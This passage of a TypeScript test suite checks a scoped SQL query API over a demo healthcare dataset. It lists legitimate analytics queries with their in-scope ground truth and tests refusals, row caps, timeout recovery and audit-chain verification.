    'WITH v AS (SELECT patient_id, count(*) AS n FROM encounters GROUP BY patient_id), frequent AS (SELECT * FROM v WHERE n >= 2), labelled AS (SELECT f.patient_id, f.n, p.gender FROM frequent f JOIN patients p USING (patient_id)) SELECT gender, count(*) AS patients, sum(n) AS visits FROM labelled GROUP BY gender',
    `WITH v AS (SELECT patient_id, count(*) AS n FROM ${ENC} e GROUP BY patient_id), frequent AS (SELECT * FROM v WHERE n >= 2), labelled AS (SELECT f.patient_id, f.n, p.gender FROM frequent f JOIN ${PAT} p USING (patient_id)) SELECT gender, count(*) AS patients, sum(n) AS visits FROM labelled GROUP BY gender`,
  ),
  rows(
    "SELECT date_trunc('month', period_start) AS month, extract(dow FROM period_start) AS dow, count(*) AS n FROM encounters GROUP BY 1, 2",
    `SELECT date_trunc('month', period_start) AS month, extract(dow FROM period_start) AS dow, count(*) AS n FROM ${ENC} e GROUP BY 1, 2`,
  ),
  rows(
    "SELECT CASE WHEN length_of_stay_minutes IS NULL THEN 'open' WHEN length_of_stay_minutes < 60 THEN 'short' WHEN length_of_stay_minutes < 1440 THEN 'day' ELSE 'long' END AS bucket, count(*) AS n FROM encounters GROUP BY 1",
    `SELECT CASE WHEN length_of_stay_minutes IS NULL THEN 'open' WHEN length_of_stay_minutes < 60 THEN 'short' WHEN length_of_stay_minutes < 1440 THEN 'day' ELSE 'long' END AS bucket, count(*) AS n FROM ${ENC} e GROUP BY 1`,
  ),
  rows(
    "SELECT upper(left(p.family_name, 1)) AS initial, lower(split_part(e.practitioner_name, ' ', 1)) AS doc, concat_ws('/', e.class_code, e.status) AS k, count(*) AS n FROM encounters e JOIN patients p USING (patient_id) GROUP BY 1, 2, 3",
    `SELECT upper(left(p.family_name, 1)) AS initial, lower(split_part(e.practitioner_name, ' ', 1)) AS doc, concat_ws('/', e.class_code, e.status) AS k, count(*) AS n FROM ${ENC} e JOIN ${PAT} p USING (patient_id) GROUP BY 1, 2, 3`,
  ),
  rows(
    "SELECT coalesce(discharge_disposition, 'none') AS dispo, count(*) AS n, round(avg(coalesce(length_of_stay_minutes, 0)), 2) AS avg_los FROM encounters GROUP BY 1",
    `SELECT coalesce(discharge_disposition, 'none') AS dispo, count(*) AS n, round(avg(coalesce(length_of_stay_minutes, 0)), 2) AS avg_los FROM ${ENC} e GROUP BY 1`,
  ),
  rows(
    'SELECT DISTINCT ON (patient_id) patient_id, encounter_id, period_start FROM encounters ORDER BY patient_id, period_start DESC, encounter_id',
    `SELECT DISTINCT ON (patient_id) patient_id, encounter_id, period_start FROM ${ENC} e ORDER BY patient_id, period_start DESC, encounter_id`,
  ),
  rows(
    'SELECT count(*) AS n FROM patients p WHERE EXISTS (SELECT 1 FROM encounters e WHERE e.patient_id = p.patient_id)',
    `SELECT count(*) AS n FROM ${PAT} p WHERE EXISTS (SELECT 1 FROM ${ENC} e WHERE e.patient_id = p.patient_id)`,
  ),
  rows(
    'SELECT state, count(*) AS n FROM patients p WHERE NOT EXISTS (SELECT 1 FROM encounters e WHERE e.patient_id = p.patient_id) GROUP BY state',
    `SELECT state, count(*) AS n FROM ${PAT} p WHERE NOT EXISTS (SELECT 1 FROM ${ENC} e WHERE e.patient_id = p.patient_id) GROUP BY state`,
  ),
  rows(
    'SELECT encounter_id, period_start FROM encounters ORDER BY period_start, encounter_id LIMIT 10 OFFSET 20',
    `SELECT encounter_id, period_start FROM ${ENC} e ORDER BY period_start, encounter_id LIMIT 10 OFFSET 20`,
    true,
  ),
  rows(
    'SELECT p.patient_id, count(e.encounter_id) AS n FROM patients p LEFT JOIN encounters e ON e.patient_id = p.patient_id GROUP BY p.patient_id ORDER BY n DESC, p.patient_id LIMIT 25',
    `SELECT p.patient_id, count(e.encounter_id) AS n FROM ${PAT} p LEFT JOIN ${ENC} e ON e.patient_id = p.patient_id GROUP BY p.patient_id ORDER BY n DESC, p.patient_id LIMIT 25`,
    true,
  ),
  rows(
    'SELECT class_code, ntile(4) OVER (ORDER BY count(*)) AS quartile, dense_rank() OVER (ORDER BY count(*) DESC) AS dr, count(DISTINCT patient_id) AS patients FROM encounters GROUP BY class_code',
    `SELECT class_code, ntile(4) OVER (ORDER BY count(*)) AS quartile, dense_rank() OVER (ORDER BY count(*) DESC) AS dr, count(DISTINCT patient_id) AS patients FROM ${ENC} e GROUP BY class_code`,
  ),
  rows(
    "SELECT status, string_agg(encounter_id, ',' ORDER BY encounter_id) AS ids, array_agg(DISTINCT class_code ORDER BY class_code) AS classes FROM encounters GROUP BY status",
    `SELECT status, string_agg(encounter_id, ',' ORDER BY encounter_id) AS ids, array_agg(DISTINCT class_code ORDER BY class_code) AS classes FROM ${ENC} e GROUP BY status`,
  ),
  rows(
    "SELECT jsonb_build_object('id', encounter_id, 'class', class_code, 'start', period_start) AS doc FROM encounters WHERE class_code = 'IMP'",
    `SELECT jsonb_build_object('id', encounter_id, 'class', class_code, 'start', period_start) AS doc FROM ${ENC} e WHERE class_code = 'IMP'`,
  ),
  rows(
    'SELECT e.encounter_id, extract(year FROM e.period_start) - extract(year FROM p.birth_date) AS age_years, p.gender FROM encounters e JOIN patients p ON p.patient_id = e.patient_id WHERE p.gender = \'female\'',
    `SELECT e.encounter_id, extract(year FROM e.period_start) - extract(year FROM p.birth_date) AS age_years, p.gender FROM ${ENC} e JOIN ${PAT} p ON p.patient_id = e.patient_id WHERE p.gender = 'female'`,
  ),
  rows(
    'SELECT patient_id FROM encounters INTERSECT SELECT patient_id FROM patients WHERE primary_payer_id = \'PAY-SELF\'',
    `SELECT patient_id FROM ${ENC} e INTERSECT SELECT patient_id FROM ${PAT} WHERE primary_payer_id = 'PAY-SELF'`,
  ),
  rows(
    'SELECT count(*) AS n, count(DISTINCT patient_id) AS patients, min(period_start) AS first, max(period_start) AS last FROM encounters',
    `SELECT count(*) AS n, count(DISTINCT patient_id) AS patients, min(period_start) AS first, max(period_start) AS last FROM ${ENC} e`,
  ),
  { sql: 'EXPLAIN SELECT class_code, count(*) FROM encounters GROUP BY class_code', expect: 'ok' },
  { sql: 'EXPLAIN (VERBOSE, COSTS OFF) SELECT * FROM encounters e JOIN patients p USING (patient_id) WHERE p.state = \'NY\'', expect: 'ok' },
];

// ---------------------------------------------------------------------------------------------

interface QueryBody {
  rows: Record<string, unknown>[];
  columns: { name: string }[];
  row_count: number;
  truncated: boolean;
  error?: { code: string; message: string };
}

let srv: TestServer;
let key: string;
let conn: string;
let otherKey: string;
let otherConn: string;
let sent = 0;

t.before(async () => {
  // the per-key rate limit is off: this file sends a few hundred queries back to back
  srv = await startServer({ limits: { queryTimeoutMs: 2000, maxRows: 2000 }, env: { SVC_RATE_LIMIT: '0' } });
  const a = await signupAgent(srv.url, 'Hostile Health', 'red-team');
  key = a.key;
  // more queries than the trial allowance: pay the rest from the wallet
  const top = await api(srv.url, 'POST', '/v1/agent/topup', { key, body: { amount_cents: 5000 } });
  if (top.status !== 200 && top.status !== 201) throw new Error(`topup failed: ${top.status} ${top.text}`);
  conn = await openConnection(srv.url, key, 'demo-healthcare', ['read:encounters', 'read:patients', 'period:2024-Q1']);
  const b = await signupAgent(srv.url, 'Bystander Clinic', 'analyst');
  otherKey = b.key;
  otherConn = await openConnection(srv.url, otherKey, 'demo-healthcare', ['read:patients']);
});
t.teardown(() => srv?.close());

const query = (sql: string) => {
  sent++;
  return api<QueryBody>(srv.url, 'POST', `/v1/connections/${conn}/query`, { key, body: { sql } });
};

/** a row as its values, JSON-normalised (the API's rows went through JSON; the ground truth's did not) */
const norm = (rs: readonly Record<string, unknown>[], ordered: boolean): string[] => {
  const out = (JSON.parse(JSON.stringify(rs)) as Record<string, unknown>[]).map((r) => JSON.stringify(Object.values(r)));
  return ordered ? out : out.sort();
};

const show = (s: string) => (s.length > 110 ? `${s.slice(0, 107)}...` : s).replace(/\s+/g, ' ');

async function check(t: Test, c: Case): Promise<void> {
  const r = await query(c.sql);
  const opts = c.todo ? { todo: c.todo } : {};
  t.ok(r.status < 500 || r.status === 504, `no 5xx other than a timeout (got ${r.status})`, opts);
  switch (c.expect) {
    case 'refused': {
      const status = c.code === 'scope_violation' ? 403 : 400;
      t.equal(r.status, status, `status ${status}${r.status === 200 ? `: it ran and returned ${r.body.row_count} rows` : ` (${r.text.slice(0, 300)})`}`, opts);
      t.equal(r.body?.error?.code, c.code, 'error code', opts);
      t.ok(typeof r.body?.error?.message === 'string' && r.body.error.message.length > 0, 'the message says why', opts);
      break;
    }
    case 'rows': {
      t.equal(r.status, 200, r.status === 200 ? 'runs' : `runs: ${r.text.slice(0, 300)}`, opts);
      if (r.status !== 200) break;
      t.equal(r.body.truncated, false, 'not truncated', opts);
      const truth = await groundTruth(srv, c.truth);
      const got = norm(r.body.rows, c.ordered ?? false);
      const want = norm(truth, c.ordered ?? false);
      t.equal(got.length, want.length, `row count equals the in-scope truth (${want.length})`, opts);
      t.same(got, want, 'rows equal the in-scope truth', opts);
      break;
    }
    case 'ok': {
      t.equal(r.status, 200, r.status === 200 ? 'runs' : `runs: ${r.text.slice(0, 300)}`, opts);
      if (r.status === 200) t.ok(r.body.row_count > 0, 'answers something', opts);
      break;
    }
    case 'timeout': {
      t.equal(r.status, 504, `stopped at its deadline${r.status === 504 ? '' : `: ${r.status} ${r.text.slice(0, 300)}`}`, opts);
      t.equal(r.body?.error?.code, 'query_timeout', 'query_timeout', opts);
      await alive(t);
      break;
    }
    case 'capped': {
      if (r.status === 200) {
        t.equal(r.body.truncated, true, `capped (${r.body.row_count} rows, ${r.text.length} bytes)`, opts);
        t.ok(r.body.row_count <= 2000, 'at most maxRows', opts);
      } else {
        t.ok([400, 504].includes(r.status), `a clean refusal or timeout: ${r.status} ${r.text.slice(0, 300)}`, opts);
        t.ok(['invalid_sql', 'query_timeout'].includes(String(r.body?.error?.code)), `code ${r.body?.error?.code}`, opts);
      }
      await alive(t);
      break;
    }
  }
}

/**
 * After a statement is stopped at its deadline, its worker is replaced (PGlite can only be stopped
 * by ending its thread). Meanwhile the same organization is held back (429 rate_limited with
 * Retry-After, not charged) so it cannot take the remaining workers, and any other organization is
 * served at once; within seconds the engine is whole again.
 */
async function alive(t: Test): Promise<void> {
  const other = await api<QueryBody>(srv.url, 'POST', `/v1/connections/${otherConn}/query`, { key: otherKey, body: { sql: 'SELECT count(*) AS n FROM patients' } });
  t.equal(other.status, 200, `another organization is served at once${other.status === 200 ? '' : `: ${other.status} ${other.text.slice(0, 200)}`}`);
  let r = await query('SELECT count(*) AS n FROM patients');
  t.ok([200, 429, 503].includes(r.status), `this organization: answered or told when to retry (${r.status})`);
  if (r.status === 429) t.match(r.headers.get('retry-after'), /^\d+$/, 'with Retry-After');
  const until = Date.now() + 20_000;
  while (r.status !== 200 && Date.now() < until) {
    await new Promise((ok) => setTimeout(ok, 250));
    r = await query('SELECT count(*) AS n FROM patients');
  }
  t.equal(r.status, 200, 'the engine recovers');
}

t.test('corpus sizes', async (t) => {
  t.ok(hostile.length >= 70, `${hostile.length} hostile statements`);
  t.ok(legit.length >= 20, `${legit.length} legitimate statements`);
  t.equal(new Set([...hostile, ...legit].map((c) => c.sql)).size, hostile.length + legit.length, 'no duplicate statements');
});

t.test('hostile statements are refused, capped, or answer exactly the in-scope truth', async (t) => {
  for (const c of hostile) await t.test(`${c.expect}: ${show(c.sql)}`, (t) => check(t, c));
});

t.test('legitimate analytics keep working and equal the in-scope truth', async (t) => {
  for (const c of legit) await t.test(`${c.expect}: ${show(c.sql)}`, (t) => check(t, c));
});

t.test('every query is in the connection audit chain, and the chain verifies', async (t) => {
  const v = await api<{ verified: boolean; events_checked: number; broken_at: number | null }>(srv.url, 'GET', `/v1/audit/verify?connection_id=${conn}`, { key });
  t.equal(v.status, 200);
  t.equal(v.body.verified, true, 'verified');
  t.equal(v.body.broken_at, null);
  t.equal(v.body.events_checked, sent, `events_checked = queries sent (${sent})`);
});
